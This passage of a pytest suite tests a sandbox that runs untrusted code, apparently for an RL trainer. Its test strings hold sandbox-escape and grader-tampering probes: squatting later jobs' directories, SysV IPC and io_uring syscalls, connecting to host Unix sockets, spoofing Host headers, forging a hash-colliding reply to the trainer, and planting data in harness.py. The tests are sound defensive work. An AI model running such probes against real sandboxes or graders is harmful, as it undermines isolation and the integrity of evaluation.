    ("pin_to_one_cpu", "import os\nos.sched_setaffinity(os.getppid(), {0})"),
    ("squat_the_next_job_directories",
     "import os\nhome = os.path.expanduser('~')\nn = int(os.path.basename(os.getcwd()).split('-')[1])\n"
     "for k in range(n + 1, n + 50): open(os.path.join(home, 'job-%d' % k), 'w').close()\nos.chmod(home, 0o500)"),
]


@pytest.mark.parametrize("name,code", TAMPER_ZYGOTE, ids=[c[0] for c in TAMPER_ZYGOTE])
def test_a_job_cannot_spoil_later_jobs_verdicts(name, code):
    with Sandbox(None, Limits(timeout_s=3)) as s:
        res = s.run_batch([(code + WRONG, ADD_TESTS, "add")] + [(GOOD, ADD_TESTS, "add")] * 5, workers=2)
    assert [r.verdict for r in res] == ["failed"] + ["passed"] * 5, [(r.verdict, r.detail[:150]) for r in res]


# kernel facilities no test needs, refused by the profile's seccomp line:
# (code printing the calls' results, what it must print)
REFUSED_CALLS = [
    # a SysV shared-memory segment, queue or semaphore would outlive the job and its memory escape RLIMIT_AS
    ("sysv_ipc",
     "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
     "print('SHM', libc.shmget(0, 64 * 2**20, 0o1600), 'MSG', libc.msgget(0x5eed, 0o1600), "
     "'SEM', libc.semget(0x5eed, 1, 0o1600))",
     "SHM -1 MSG -1 SEM -1"),
    ("io_uring",  # allowed by firejail's default filter: a large kernel attack surface
     "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nparams = (ctypes.c_char * 120)()\n"
     "print('SETUP', libc.syscall(425, 4, params), 'ENTER', libc.syscall(426, 0, 0, 0, 0, 0, 0), "
     "'REGISTER', libc.syscall(427, 0, 0, 0, 0), 'ERRNO', ctypes.get_errno())",
     "SETUP -1 ENTER -1 REGISTER -1 ERRNO 1"),
    # would outlive the job in a warm sandbox's IPC namespace (a channel to later jobs) and escape RLIMIT_AS
    ("posix_message_queues",
     "import ctypes, os\nrt = ctypes.CDLL('librt.so.1', use_errno=True)\n"
     "print('MQ', rt.mq_open(b'/rlkit-persist', os.O_CREAT | os.O_WRONLY, 0o600, None), ctypes.get_errno())",
     "MQ -1 1"),
]


@pytest.mark.parametrize("name,code,want", REFUSED_CALLS, ids=[c[0] for c in REFUSED_CALLS])
def test_kernel_facilities_no_test_needs_are_refused(sb, host, name, code, want):
    r = check(sb, host, code + GOOD, {"passed", "violation"})
    assert want in r.stdout, r.stdout


def test_host_unix_sockets_under_run_are_hidden(host):
    "A service's socket in /run (e.g. /run/postgresql): `net none` does not cover socket files, so /run is blacklisted"
    d = Path("/run") / f"rlkit-probe-{uuid.uuid4().hex[:8]}"
    d.mkdir()
    os.chmod(d, 0o777)
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(d / "s.sock"))
    os.chmod(d / "s.sock", 0o777)
    srv.listen(1)
    srv.settimeout(0.2)
    try:
        with Sandbox(None, Limits(timeout_s=3), warm=False) as s:  # the sandbox starts after the socket exists
            code = (f"import socket\ntry:\n    c = socket.socket(socket.AF_UNIX); c.connect({str(d / 's.sock')!r}); "
                    "c.sendall(b'x'); print('CONNECTED')\n"
                    "except OSError as e: print('blocked', e)" + GOOD)
            r = s.run(code, ADD_TESTS, "add")
        assert "CONNECTED" not in r.stdout and r.verdict == "violation", (r.verdict, r.stdout, r.detail[:200])
        try:
            srv.accept()
            got = True
        except (socket.timeout, BlockingIOError):
            got = False
        assert not got, "the host's socket under /run accepted a connection from the sandbox"
    finally:
        srv.close()
        _shutil.rmtree(d, ignore_errors=True)


def test_the_proxy_sends_the_allowed_host_whatever_host_header_the_code_wrote(net_sb, host):
    ("Behind a virtual host or a CDN, a Host header other than the allowed one would reach another site through an "
     "allowed address")
    hosts = []
    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hosts.append(self.headers.get_all("Host"))
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")
        def log_message(self, *a): pass
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    port = srv.server_address[1]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        code = ("import urllib.request\ndef fetch(url):\n    return "
                "urllib.request.urlopen(urllib.request.Request(url, headers={'Host': 'internal-admin.corp'}), "
                "timeout=5).read().decode()\n")
        _net(net_sb, host, code, f"assert fetch('http://127.0.0.1:{port}/a') == 'ok'",
             NetworkTier((f"127.0.0.1:{port}",)), {"passed"})
    finally:
        srv.shutdown()
        srv.server_close()
    assert hosts == [[f"127.0.0.1:{port}"]], hosts


def test_a_set_of_colliding_hashes_is_refused_without_quadratic_work(sb, host):
    ("Ints k * (2**61 - 1) all hash to 0, so a set of 45,000 of them is quadratic to build: the trainer refuses the "
     "reply before building it")
    # the reply, forged: built in the sandbox the set itself would time out
    code = ("import __main__, json, os\ndef add(a, b):\n    v = {'set': [k * (2**61 - 1) for k in range(1, 45000)]}\n"
            "    __main__.rep.write(json.dumps({'value': v, 'job': __main__.JOB}) + '\\n'); __main__.rep.flush(); "
            "os._exit(0)")
    r = check(sb, host, code, {"violation"})
    assert "share their hashes" in r.detail and r.duration_s < 2.5, (r.detail[:200], r.duration_s)


def test_half_colliding_hashes_are_refused_too(sb, host):
    ("Keys hashing to 0 beside as many distinct ones: the colliding half alone is quadratic to build, so the cap is "
     "on keys per hash, not the share of distinct ones")
    code = ("import __main__, json, os\ndef add(a, b):\n"
            "    v = {'set': [k * (2**61 - 1) for k in range(1, 30000)] + list(range(1, 30000))}\n"
            "    __main__.rep.write(json.dumps({'value': v, 'job': __main__.JOB}) + '\\n'); __main__.rep.flush(); "
            "os._exit(0)")
    r = check(sb, host, code, {"violation"})
    assert "share their hashes" in r.detail and r.duration_s < 2.5, (r.detail[:200], r.duration_s)


def test_a_tree_1100_directories_deep_is_listed_without_recursion(sb, host):
    ("Python 3.11's os.walk recurses, so it would raise RecursionError out of `run` and lose the batch: what the job "
     "wrote is listed without recursion")
    code = "import os\nfor _ in range(1100):\n    os.mkdir('a'); os.chdir('a')" + GOOD
    check(sb, host, code, {"passed", "violation"})


def test_a_job_cannot_leave_data_for_later_jobs_in_harness_py():
    ("The home is the sandbox user's, so a job can replace ~/harness.py: the zygote removes it before each job, and "
     "later jobs never read what it left")
    plant = ("import os\nh = os.path.expanduser('~')\nopen(h + '/.x', 'w').write('PERSISTED')\n"
             "os.replace(h + '/.x', h + '/harness.py')") + GOOD
    read = ("import os\ntry: print(open(os.path.expanduser('~/harness.py')).read()[:20])\n"
            "except OSError: print('GONE')" + GOOD)
    with Sandbox(None, Limits(timeout_s=3), warm=True) as s:
        res = s.run_batch([(plant, ADD_TESTS, "add"), (read, ADD_TESTS, "add"), (read, ADD_TESTS, "add")], workers=1)
    assert [r.verdict for r in res] == ["passed"] * 3 and not any("PERSISTED" in r.stdout for r in res[1:]), \
        [(r.verdict, r.stdout) for r in res]


PEEK = ("import os\ndef peek(p):\n    try: return open(os.path.expanduser(p)).read()\n"
        "    except OSError as e: return 'refused: ' + e.strerror\n")


@pytest.mark.parametrize("named", [True, False], ids=["named_in_data_dirs", "a_task_s_own_path"])
def test_a_data_directory_is_read_only_at_data_and_only_by_its_tier(host, named):
    "A data directory outside /tmp is hidden at its host path from every job: only a data-tier job reads it, at ~/data"
    import shutil, tempfile
    others = {int(p) for p in _live_sandbox_processes()}  # the module's warm sandboxes
    d = Path(tempfile.mkdtemp(dir="/var/lib", prefix="rlkit-test-data-"))
    try:
        (d / "prices.csv").write_text("apple,3\n")
        d.chmod(0o755)
        (d / "prices.csv").chmod(0o644)
        hidden = f"assert peek({str(d / 'prices.csv')!r}).startswith('refused'), peek({str(d / 'prices.csv')!r})"
        with Sandbox(None, Limits(timeout_s=5), data_dirs={"prices": str(d)} if named else None) as s:
            tier = s.tier_for({"tier": "data", "data": "prices" if named else str(d)})
            r = s.run(PEEK, hidden + "\nassert peek('~/data/prices.csv') == 'apple,3\\n'", "peek", tier=tier)
            assert r.verdict == "passed", (r.verdict, r.detail, r.stderr[-500:])
            if named:  # a job of the default tier, in the warm sandbox, cannot read it either
                r = s.run(PEEK, hidden, "peek")
                assert r.verdict == "passed", (r.verdict, r.detail, r.stderr[-500:])
    finally:
        shutil.rmtree(d)
    assert not _wait_no_leftovers(exclude=others)


def test_a_data_directory_firejail_cannot_hide_is_refused(tmp_path):
    ("firejail refuses to blacklist a path holding ',' (and a few other characters): every job would fail to start, "
     "so the Sandbox refuses such a directory up front")
    odd = tmp_path / "a,b"
    odd.mkdir()
    with pytest.raises(ValueError, match="rename the directory"):
        Sandbox(None, data_dirs={"odd": str(odd)})
